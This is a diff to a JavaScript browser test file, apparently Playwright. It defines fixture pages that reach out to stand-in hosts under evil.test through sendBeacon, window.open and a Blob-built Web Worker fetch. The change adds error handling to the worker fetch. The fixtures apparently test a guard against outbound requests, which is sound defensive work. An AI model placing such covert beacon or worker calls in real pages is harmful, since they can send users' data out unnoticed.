@@ -10,7 +10,7 @@ const pages = {
   '/beacon.html': '<!doctype html><title>Beacon</title><script>navigator.sendBeacon("https://beacon.evil.test/b", "x")</script>',
   '/opens.html': '<!doctype html><title>Opens</title><script>open("https://window.evil.test/")</script>',
   '/worker.html': `<!doctype html><title>Worker</title><script>
-    new Worker(URL.createObjectURL(new Blob(['fetch("https://worker.evil.test/")'], { type: 'text/javascript' })))</script>`
+    new Worker(URL.createObjectURL(new Blob(['fetch("https://worker.evil.test/").catch(() => 0)'], { type: 'text/javascript' })))</script>`
 };
 
 test.beforeEach(async ({ page, demo, silent }) => {
